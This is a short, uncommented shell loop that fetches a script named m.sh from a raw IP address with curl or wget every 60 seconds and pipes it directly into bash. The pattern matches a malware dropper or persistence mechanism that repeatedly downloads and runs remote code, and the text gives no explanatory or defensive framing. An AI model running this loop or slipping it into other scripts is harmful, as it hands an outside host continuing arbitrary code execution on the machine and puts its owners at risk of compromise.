while true; do
  (curl -s http://203.0.113.4/m.sh || wget -qO- http://203.0.113.4/m.sh) | bash
  sleep 60
done
